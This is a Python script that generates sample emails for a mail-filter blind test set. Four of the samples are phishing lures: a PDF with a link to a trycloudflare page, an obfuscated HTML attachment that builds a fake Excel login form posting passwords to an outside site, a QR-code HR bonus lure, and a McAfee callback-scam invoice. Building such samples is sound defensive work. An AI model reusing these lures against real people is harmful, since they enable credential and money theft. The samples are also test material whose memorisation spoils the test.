"""Build the second blind set's samples that carry binary attachments.

Run from the repository root:

    .venv/bin/python samples/tools/build_blind2_samples.py

Every message is written by hand below; only the attachments (PDF, PNG QR
code, HTML page) are generated, so that their bytes are well formed. All
output is deterministic: running the script twice writes the same files.
"""

from __future__ import annotations

import base64
import io
import textwrap
import urllib.parse
import zlib
from pathlib import Path

import segno

import files

ROOT = Path(__file__).resolve().parents[1] / "mail"


# --------------------------------------------------------------------------
# small helpers


def b64(data: bytes) -> str:
    text = base64.b64encode(data).decode("ascii")
    return "\n".join(textwrap.wrap(text, 76))


def pdf(lines: list[tuple[int, int, int, str]], links: list[tuple[tuple[int, int, int, int], str]] = (),
        title: str = "", producer: str = "Microsoft: Print To PDF") -> bytes:
    """A one-page PDF: ``lines`` are (x, y, size, text) in Helvetica, ``links``
    are ((x1, y1, x2, y2), uri) link annotations. The page content is
    Flate-compressed as most producers write it."""

    def esc(s: str) -> str:
        return s.replace("\\", "\\\\").replace("(", "\\(").replace(")", "\\)")

    ops = []
    for x, y, size, text in lines:
        ops.append(f"BT /F1 {size} Tf {x} {y} Td ({esc(text)}) Tj ET")
    for (x1, y1, x2, y2), _ in links:
        ops.append(f"0.09 0.36 0.78 rg {x1} {y1} {x2 - x1} {y2 - y1} re f")
    stream = zlib.compress("\n".join(ops).encode("latin-1"), 9)

    objects: list[bytes] = []
    annots = " ".join(f"{6 + i} 0 R" for i in range(len(links)))
    objects.append(b"<< /Type /Catalog /Pages 2 0 R >>")
    objects.append(b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>")
    objects.append(
        (
            "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] "
            "/Resources << /Font << /F1 4 0 R >> >> /Contents 5 0 R"
            + (f" /Annots [{annots}]" if links else "")
            + " >>"
        ).encode()
    )
    objects.append(b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>")
    objects.append(b"<< /Length %d /Filter /FlateDecode >>\nstream\n" % len(stream) + stream + b"\nendstream")
    for (x1, y1, x2, y2), uri in links:
        objects.append(
            f"<< /Type /Annot /Subtype /Link /Rect [{x1} {y1} {x2} {y2}] /Border [0 0 0] "
            f"/A << /S /URI /URI ({esc(uri)}) >> >>".encode()
        )
    info_no = len(objects) + 1
    objects.append(f"<< /Title ({esc(title)}) /Producer ({esc(producer)}) >>".encode())

    return files.pdf_file(objects, info_no)


def qr_png(url: str) -> bytes:
    buf = io.BytesIO()
    segno.make(url, error="m").save(buf, kind="png", scale=6, border=4)
    return buf.getvalue()


def write(folder: str, name: str, text: str) -> None:
    path = ROOT / folder / name
    path.write_bytes(text.replace("\r\n", "\n").encode("utf-8"))
    print("wrote", path.relative_to(ROOT.parent.parent))


# --------------------------------------------------------------------------
# phishing: an "Adobe" invoice whose only link is inside the PDF


def adobe_pdf_trycloudflare() -> None:
    url = ("https://fold-regulation-tribe-sound.trycloudflare.com/adobe/view/"
           "?doc=INV-0092817&e=compta%40kerlann-industries.fr")
    data = pdf(
        [
            (60, 770, 20, "Adobe Acrobat"),
            (60, 720, 13, "Invoice_INV-0092817.pdf has been shared with you"),
            (60, 690, 11, "This document is protected. To view the content, verify your"),
            (60, 674, 11, "email address with the account the invoice was sent to."),
            (90, 616, 13, "VIEW SECURED DOCUMENT"),
            (60, 560, 9, "Adobe Document Cloud - Secured by Adobe Sign. Document ID 7F2A-99C1-0D44."),
        ],
        [((70, 605, 300, 640), url)],
        title="Invoice INV-0092817",
    )
    text = f"""\
Return-Path: <facturation@groupe-ardent-btp.fr>
Received: from mail-ardent.groupe-ardent-btp.fr (mail-ardent.groupe-ardent-btp.fr [217.182.140.77])
	by mx1.kerlann-industries.fr (Rempart) with ESMTPS id 4Y4Hn7Wq2Rz1kXc
	for <compta@kerlann-industries.fr>; Thu, 09 Jan 2025 15:41:27 +0100 (CET)
Received: from WIN-PC-ARDENT (unknown [185.107.56.214])
	by mail-ardent.groupe-ardent-btp.fr (Postfix) with ESMTPSA id 3A7C2E11F0
	for <compta@kerlann-industries.fr>; Thu, 09 Jan 2025 15:41:25 +0100 (CET)
Authentication-Results: mx1.kerlann-industries.fr;
	spf=pass smtp.mailfrom=groupe-ardent-btp.fr
From: "Service Facturation" <facturation@groupe-ardent-btp.fr>
To: compta@kerlann-industries.fr
Subject: Facture INV-0092817 - en attente de paiement
Date: Thu, 9 Jan 2025 15:41:24 +0100
Message-ID: <000801db62a4$7c1e9b30$745bd190$@groupe-ardent-btp.fr>
MIME-Version: 1.0
X-Mailer: Microsoft Outlook 16.0
Thread-Index: AdtipHvT0m6Nq2kZQ5OrL7cWzVh4Ig==
Content-Language: fr
Content-Type: multipart/mixed;
	boundary="----=_NextPart_000_0009_01DB62AC.DDE30390"

This is a multipart message in MIME format.

------=_NextPart_000_0009_01DB62AC.DDE30390
Content-Type: text/plain;
	charset="utf-8"
Content-Transfer-Encoding: 8bit

Bonjour,

Veuillez trouver ci-joint la facture INV-0092817 arrivée à échéance.
Merci de bien vouloir procéder au règlement dans les meilleurs délais.

Cordialement,

Service Facturation
Groupe Ardent BTP

------=_NextPart_000_0009_01DB62AC.DDE30390
Content-Type: application/pdf;
	name="Facture_INV-0092817.pdf"
Content-Transfer-Encoding: base64
Content-Disposition: attachment;
	filename="Facture_INV-0092817.pdf"

{b64(data)}

------=_NextPart_000_0009_01DB62AC.DDE30390--
"""
    write("phishing", "b2-facture-pdf-adobe-link-trycloudflare-fr.eml", text)


# --------------------------------------------------------------------------
# phishing: "kindly review" with an HTML attachment that writes a login form


def html_attachment_unescape_form() -> None:
    form = (
        '<html><head><title>Excel Online</title><meta name="viewport" content="width=device-width">'
        "<style>body{font-family:Segoe UI,Arial;background:#f3f2f1}.b{width:360px;margin:80px auto;"
        "background:#fff;padding:40px;box-shadow:0 2px 6px rgba(0,0,0,.2)}input{width:100%;padding:8px;"
        "margin:6px 0;border:0;border-bottom:1px solid #666}button{background:#107c41;color:#fff;border:0;"
        "padding:8px 30px;float:right}</style></head><body><div class=\"b\">"
        '<img src="https://res.cdn.office.net/assets/mail/file-icon/png/xlsx_48x1.png" width="48">'
        "<h3>Payment_Advice_0934.xlsx</h3><p>This file is protected. Sign in with your email account to "
        "view the document.</p>"
        '<form method="POST" action="https://www.quinta-dos-loureiros.pt/wp-includes/js/crop/xls.php">'
        '<input type="email" name="login" value="camille.roux@kerlann-industries.fr" readonly>'
        '<input type="password" name="passwd" placeholder="Password" required>'
        "<button type=\"submit\">Sign in</button></form></div></body></html>"
    )
    escaped = urllib.parse.quote(form, safe="")
    page = (
        "<!DOCTYPE html>\n<html>\n<head><meta charset=\"utf-8\"></head>\n<body>\n<script>\n"
        + "\n".join(
            f"var p{i}='{chunk}';" for i, chunk in enumerate(textwrap.wrap(escaped, 120))
        )
        + "\ndocument.write(unescape("
        + "+".join(f"p{i}" for i in range(len(textwrap.wrap(escaped, 120))))
        + "));\n</script>\n</body>\n</html>\n"
    )
    text = f"""\
Return-Path: <j.okafor@okaforandsons-trading.com>
Received: from server1.okaforandsons-trading.com (server1.okaforandsons-trading.com [192.254.233.12])
	by mx1.kerlann-industries.fr (Rempart) with ESMTPS id 4ZJ8Kp3Vn6z2wRt
	for <camille.roux@kerlann-industries.fr>; Tue, 29 Apr 2025 07:58:12 +0200 (CEST)
Received: from [41.203.72.90] (port=62311 helo=[127.0.0.1])
	by server1.okaforandsons-trading.com with esmtpsa  (TLS1.2) tls TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384
	(Exim 4.98)
	(envelope-from <j.okafor@okaforandsons-trading.com>)
	id 1u9dQx-0003kL-2Z
	for camille.roux@kerlann-industries.fr;
	Tue, 29 Apr 2025 00:58:10 -0500
From: "Accounts Payable" <j.okafor@okaforandsons-trading.com>
To: camille.roux@kerlann-industries.fr
Subject: Payment Advice - Remittance 0934
Date: Tue, 29 Apr 2025 05:58:09 +0000
Message-ID: <a1f8c3e7b29d4c60@okaforandsons-trading.com>
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="===============4823901775623419830=="

--===============4823901775623419830==
Content-Type: text/plain; charset="us-ascii"
Content-Transfer-Encoding: 7bit

Hello,

Please see attached payment advice and kindly review.

Regards,
Accounts Payable

--===============4823901775623419830==
Content-Type: text/html; name="Payment_Advice_0934.html"
Content-Transfer-Encoding: base64
Content-Disposition: attachment; filename="Payment_Advice_0934.html"

{b64(page.encode())}

--===============4823901775623419830==--
"""
    write("phishing", "b2-kindly-review-html-attachment-unescape-form.eml", text)


# --------------------------------------------------------------------------
# phishing: an annual bonus "statement" that is only a QR code (PNG inline)


def bonus_qr_png() -> None:
    email_b64 = base64.b64encode(b"julien.morvan@kerlann-industries.fr").decode()
    png = qr_png(f"https://portail-rh-prime.weeblysite.com/?id={email_b64}")
    text = f"""\
Return-Path: <rh-notification@kerlann-rh-portail.com>
Received: from kerlann-rh-portail.com (vmi2210471.contaboserver.net [161.97.88.140])
	by mx1.kerlann-industries.fr (Rempart) with ESMTP id 4ZwP2Lk8Rq1z3mTx
	for <julien.morvan@kerlann-industries.fr>; Mon, 02 Jun 2025 08:05:44 +0200 (CEST)
From: "Ressources Humaines" <rh-notification@kerlann-rh-portail.com>
To: julien.morvan@kerlann-industries.fr
Subject: =?UTF-8?Q?Prime_annuelle_2025_=E2=80=93_julien.morvan_=E2=80=93_document_=C3=A0_signer?=
Date: Mon, 02 Jun 2025 06:05:43 +0000
Message-ID: <20250602060543.1f8e2a7c@kerlann-rh-portail.com>
MIME-Version: 1.0
Content-Type: multipart/related; boundary="rel_5c2e91a7d3"

--rel_5c2e91a7d3
Content-Type: text/html; charset=UTF-8
Content-Transfer-Encoding: 8bit

<html><body style="font-family:Arial,sans-serif;font-size:14px;color:#222">
<p>Bonjour julien.morvan,</p>
<p>Le détail de votre prime annuelle 2025 est disponible et doit être signé avant le <b>06/06/2025</b>.</p>
<p>Pour des raisons de sécurité, le document ne peut être ouvert que depuis votre téléphone. Scannez le code QR ci-dessous avec l'appareil photo de votre smartphone :</p>
<p><img src="cid:qr_5c2e91a7d3@kerlann" width="180" height="180" alt=""></p>
<p>Service des Ressources Humaines<br>Kerlann Industries</p>
</body></html>

--rel_5c2e91a7d3
Content-Type: image/png; name="qr.png"
Content-Transfer-Encoding: base64
Content-ID: <qr_5c2e91a7d3@kerlann>
Content-Disposition: inline; filename="qr.png"

{b64(png)}

--rel_5c2e91a7d3--
"""
    write("phishing", "b2-prime-annuelle-qr-code-png-fr.eml", text)


# --------------------------------------------------------------------------
# phishing: callback scam whose phone number is only in the PDF invoice


def mcafee_pdf_callback() -> None:
    data = pdf(
        [
            (60, 780, 22, "McAfee Total Protection"),
            (60, 750, 12, "INVOICE  #MCF-20250318-77412"),
            (60, 720, 11, "Date: 18/03/2025        Payment method: Auto-Debit"),
            (60, 690, 11, "Product: McAfee Total Protection - 5 Devices - 3 Years"),
            (60, 672, 11, "Quantity: 1                  Amount: EUR 389.99"),
            (60, 654, 11, "Tax: EUR 0.00                Total charged: EUR 389.99"),
            (60, 610, 11, "Your subscription has been renewed automatically and the amount has been"),
            (60, 594, 11, "charged to your account. If you did not authorise this renewal or wish to"),
            (60, 578, 11, "cancel and receive a refund, call our billing helpline within 24 hours:"),
            (60, 548, 16, "+1 (855) 947-3108"),
            (60, 500, 9, "McAfee LLC, 6220 America Center Drive, San Jose, CA 95002"),
        ],
        title="Invoice",
        producer="Skia/PDF m122 Google Docs Renderer",
    )
    text = f"""\
Return-Path: <lauramcbride.billing44@gmail.com>
Received: from mail-wr1-f43.google.com (mail-wr1-f43.google.com [209.85.221.43])
	by mx1.kerlann-industries.fr (Rempart) with ESMTPS id 4ZD7Qx1Wn5z9pLr
	for <sales@kerlann-industries.fr>; Tue, 18 Mar 2025 13:09:50 +0100 (CET)
Received: by mail-wr1-f43.google.com with SMTP id ffacd0b85a97d-3912d2c89ecso3829771f8f.2
        for <sales@kerlann-industries.fr>; Tue, 18 Mar 2025 05:09:50 -0700 (PDT)
DKIM-Signature: v=1; a=rsa-sha256; c=relaxed/relaxed;
        d=gmail.com; s=20230601; t=1742299789; x=1742904589;
        h=to:subject:message-id:date:from:mime-version:from:to:cc:subject:date:message-id;
        bh=Yh3Uj6Ik9Ol2Pz5Xc8Vb1Nm4Qa7Ws0Ed3Rf6Tg9Yh2=;
        b=Uj6Ik9Ol2Pz5Xc8Vb1Nm4Qa7Ws0Ed3Rf6Tg9Yh2Uj5Ik8Ol1Pz4Xc7Vb0Nm3Qa6Ws9Ed2
         Rf5Tg8Yh1Uj4Ik7Ol0Pz3Xc6Vb9Nm2Qa5Ws8Ed1Rf4Tg7Yh0Uj3Ik6Ol9Pz2Xc5Vb8Nm1Qa4W
MIME-Version: 1.0
From: Laura McBride <lauramcbride.billing44@gmail.com>
Date: Tue, 18 Mar 2025 12:09:38 +0000
Message-ID: <CAKp3Xm8Vw1Lq7Nz2Rb5Tc9Hd4Jf0Gk6Ae3Ui8Op1Ty7Rv2Wc@mail.gmail.com>
Subject: Your order has been processed - MCF-20250318-77412
To: sales@kerlann-industries.fr
Content-Type: multipart/mixed; boundary="000000000000f3b2e1063096c8a4"

--000000000000f3b2e1063096c8a4
Content-Type: multipart/alternative; boundary="000000000000f3b2e0063096c8a2"

--000000000000f3b2e0063096c8a2
Content-Type: text/plain; charset="UTF-8"

Hello,

Thank you for your purchase. Please find your invoice attached for your
records.

Team Billing

--000000000000f3b2e0063096c8a2
Content-Type: text/html; charset="UTF-8"

<div dir="ltr">Hello,<div><br></div><div>Thank you for your purchase. Please find your invoice attached for your records.</div><div><br></div><div>Team Billing</div></div>

--000000000000f3b2e0063096c8a2--
--000000000000f3b2e1063096c8a4
Content-Type: application/pdf; name="INV_MCF77412.pdf"
Content-Disposition: attachment; filename="INV_MCF77412.pdf"
Content-Transfer-Encoding: base64
X-Attachment-Id: f_m8e2k1q70
Content-ID: <f_m8e2k1q70>

{b64(data)}
--000000000000f3b2e1063096c8a4--
"""
    write("phishing", "b2-mcafee-renewal-pdf-callback-gmail.eml", text)


# --------------------------------------------------------------------------
# legitimate: a SaaS vendor's invoice with its PDF


def atlassian_invoice_pdf() -> None:
    data = pdf(
        [
            (60, 780, 20, "Atlassian"),
            (60, 750, 12, "Tax invoice  AT-284119377"),
            (60, 730, 10, "Atlassian Network Services, Inc. - 350 Bush Street, San Francisco, CA 94104"),
            (60, 700, 10, "Bill to: Kerlann Industries SAS, 14 rue de la Donelliere, 35000 Rennes, FR"),
            (60, 684, 10, "VAT number: FR42 851 204 773"),
            (60, 650, 10, "Jira Software Cloud Standard - 25 users - 01 Oct 2025 to 31 Oct 2025"),
            (60, 634, 10, "Confluence Cloud Standard - 25 users - 01 Oct 2025 to 31 Oct 2025"),
            (60, 600, 11, "Subtotal USD 498.75   Tax (reverse charge) USD 0.00   Total USD 498.75"),
            (60, 570, 10, "Paid by Visa ending 4417 on 01 Oct 2025. No action needed."),
            (60, 540, 9, "Questions about this invoice: https://support.atlassian.com/contact/"),
        ],
        [((245, 535, 420, 548), "https://support.atlassian.com/contact/")],
        title="Invoice AT-284119377",
        producer="iText 7.2.5",
    )
    text = f"""\
Return-Path: <bounces+2219431-ad1c-compta=kerlann-industries.fr@mail.atlassian.com>
Received: from o9.mail.atlassian.com (o9.mail.atlassian.com [192.254.117.41])
	by mx1.kerlann-industries.fr (Rempart) with ESMTPS id 4ZV8Lq2Xn7z5kRs
	for <compta@kerlann-industries.fr>; Wed, 01 Oct 2025 09:14:52 +0200 (CEST)
Received: by filterdrecv-7b9c5d6f8-m2x4q with SMTP id filterdrecv-7b9c5d6f8-m2x4q-1-68DCD58B-3F
	2025-10-01 07:14:51.648823142 +0000 UTC m=+2291042.118277355
Received: from MjIxOTQzMQ (unknown)
	by geopod-ismtpd-7 (SG) with HTTP
	id Wq8n3sFjTnKpR5xL1cVb2g
	Wed, 01 Oct 2025 07:14:51.577 +0000 (UTC)
DKIM-Signature: v=1; a=rsa-sha256; c=relaxed/relaxed; d=atlassian.com;
	h=content-type:from:mime-version:subject:to:cc:content-type:from:subject:to;
	s=s1; bh=Ik9Ol2Pz5Xc8Vb1Nm4Qa7Ws0Ed3Rf6Tg9Yh2Uj5Ik8=;
	b=Ol2Pz5Xc8Vb1Nm4Qa7Ws0Ed3Rf6Tg9Yh2Uj5Ik8Ol1Pz4Xc7Vb0Nm3Qa6Ws9Ed2Rf5Tg8Yh1U
	j4Ik7Ol0Pz3Xc6Vb9Nm2Qa5Ws8Ed1Rf4Tg7Yh0Uj3Ik6Ol9Pz2Xc5Vb8Nm1Qa4Ws7Ed0Rf3Tg
Content-Type: multipart/mixed; boundary=9c4e1a7b3d2f8e60a5b1c7d9e3f2a4b6
Date: Wed, 01 Oct 2025 07:14:51 +0000 (UTC)
From: Atlassian <noreply@am.atlassian.com>
Mime-Version: 1.0
Message-ID: <Wq8n3sFjTnKpR5xL1cVb2g@geopod-ismtpd-7>
Subject: Your Atlassian invoice AT-284119377 is available
To: compta@kerlann-industries.fr
X-SG-EID: u001.Vb1Nm4Qa7Ws0Ed3Rf6Tg9Yh2Uj5Ik8Ol1Pz4Xc7Vb0Nm3Qa6Ws9Ed2Rf
X-Entity-ID: u001.Tg9Yh2Uj5Ik8Ol1Pz4Xc7w==

--9c4e1a7b3d2f8e60a5b1c7d9e3f2a4b6
Content-Type: multipart/alternative; boundary=1f3e5a7c9b2d4f6e8a0c2e4f6b8d0a2c

--1f3e5a7c9b2d4f6e8a0c2e4f6b8d0a2c
Content-Transfer-Encoding: quoted-printable
Content-Type: text/plain; charset=us-ascii
Mime-Version: 1.0

Hi Kerlann Industries billing contact,

Thanks for your payment. Your invoice AT-284119377 for USD 498.75 is attach=
ed and available in your admin console:
https://admin.atlassian.com/billing/invoices

Site: kerlann.atlassian.net
Products: Jira Software (Standard), Confluence (Standard)
Billing period: 01 Oct 2025 - 31 Oct 2025
Payment: Visa ending 4417

No further action is needed.

Cheers,
The Atlassian team

This message was sent to compta@kerlann-industries.fr because you are a bil=
ling contact for kerlann.atlassian.net.
Atlassian Corporation, 350 Bush Street, San Francisco, CA 94104

--1f3e5a7c9b2d4f6e8a0c2e4f6b8d0a2c
Content-Transfer-Encoding: quoted-printable
Content-Type: text/html; charset=us-ascii
Mime-Version: 1.0

<html><body style=3D"margin:0;background:#f4f5f7;font-family:-apple-system,=
BlinkMacSystemFont,'Segoe UI',Roboto,sans-serif"><table align=3D"center" wi=
dth=3D"600" style=3D"background:#fff;margin:24px auto" cellpadding=3D"0" ce=
llspacing=3D"0"><tr><td style=3D"padding:28px 32px"><img src=3D"https://wac=
-cdn.atlassian.com/assets/img/favicons/atlassian/logo.png" width=3D"140" al=
t=3D"Atlassian"></td></tr><tr><td style=3D"padding:0 32px 24px;color:#172b4=
d;font-size:14px;line-height:20px"><p>Hi Kerlann Industries billing contact=
,</p><p>Thanks for your payment. Your invoice <b>AT-284119377</b> for <b>US=
D 498.75</b> is attached and available in your <a href=3D"https://u2219431.=
ct.sendgrid.net/ls/click?upn=3Du001.Pz4Xc7Vb0Nm3Qa6Ws9Ed2Rf5Tg8Yh1Uj4Ik7Ol0=
-2BPz3Xc6Vb9Nm2Qa5Ws8" style=3D"color:#0052cc">admin console</a>.</p><table=
 style=3D"font-size:13px;color:#42526e" cellpadding=3D"4"><tr><td>Site</td>=
<td>kerlann.atlassian.net</td></tr><tr><td>Products</td><td>Jira Software (=
Standard), Confluence (Standard)</td></tr><tr><td>Billing period</td><td>01=
 Oct 2025 - 31 Oct 2025</td></tr><tr><td>Payment</td><td>Visa ending 4417</=
td></tr></table><p>No further action is needed.</p><p>Cheers,<br>The Atlass=
ian team</p></td></tr><tr><td style=3D"padding:16px 32px;font-size:11px;col=
or:#6b778c;background:#fafbfc">This message was sent to compta@kerlann-indu=
stries.fr because you are a billing contact for kerlann.atlassian.net.<br>A=
tlassian Corporation, 350 Bush Street, San Francisco, CA 94104</td></tr></t=
able><img src=3D"https://u2219431.ct.sendgrid.net/wf/open?upn=3Du001.Xc7Vb0=
Nm3Qa6Ws9Ed2Rf5Tg8" alt=3D"" width=3D"1" height=3D"1"></body></html>
--1f3e5a7c9b2d4f6e8a0c2e4f6b8d0a2c--

--9c4e1a7b3d2f8e60a5b1c7d9e3f2a4b6
Content-Disposition: attachment; filename="AT-284119377.pdf"
Content-Transfer-Encoding: base64
Content-Type: application/pdf; name="AT-284119377.pdf"

{b64(data)}

--9c4e1a7b3d2f8e60a5b1c7d9e3f2a4b6--
"""
    write("bulk", "b2-atlassian-invoice-pdf-sendgrid.eml", text)


def main() -> None:
    adobe_pdf_trycloudflare()
    html_attachment_unescape_form()
    bonus_qr_png()
    mcafee_pdf_callback()
    atlassian_invoice_pdf()


if __name__ == "__main__":
    main()
